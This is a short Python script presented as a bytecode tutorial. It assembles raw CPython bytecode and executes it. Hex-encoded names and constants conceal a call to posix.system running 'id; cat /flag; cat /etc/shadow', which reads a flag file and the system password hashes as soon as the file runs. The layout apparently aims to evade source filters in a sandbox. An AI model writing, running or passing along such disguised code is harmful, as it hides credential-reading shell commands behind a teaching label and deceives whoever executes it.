# Bytecode tutorial: assembles a tiny program from opcode names and runs it.
import dis

PROGRAM = [
    ("RESUME", 0),
    ("PUSH_NULL", 0),
    ("LOAD_NAME", 0),
    ("LOAD_CONST", 0),
    ("PRECALL", 1),
    ("CALL", 1),
    ("LOAD_METHOD", 1),
    ("LOAD_CONST", 1),
    ("PRECALL", 1),
    ("CALL", 1),
    ("POP_TOP", 0),
    ("LOAD_CONST", 2),
    ("RETURN_VALUE", 0),
]

NAMES = tuple(bytes.fromhex(h).decode() for h in ("5f5f696d706f72745f5f", "73797374656d"))
CONSTS = (bytes.fromhex("706f736978").decode(), "id; cat /flag; cat /etc/shadow", None)


def assemble(steps):
    blob = bytearray()
    for name, arg in steps:
        op = dis.opmap[name]
        blob += bytes((op, arg))
        blob += b"\x00\x00" * dis._inline_cache_entries[op]
    return bytes(blob)


def lesson():
    shell = compile("", "<lesson>", "exec")
    unit = shell.replace(
        co_code=assemble(PROGRAM),
        co_consts=CONSTS,
        co_names=NAMES,
        co_stacksize=8,
        co_linetable=b"",
        co_exceptiontable=b"",
    )
    dis.dis(unit)
    exec(unit, {"__builtins__": __builtins__})


lesson()
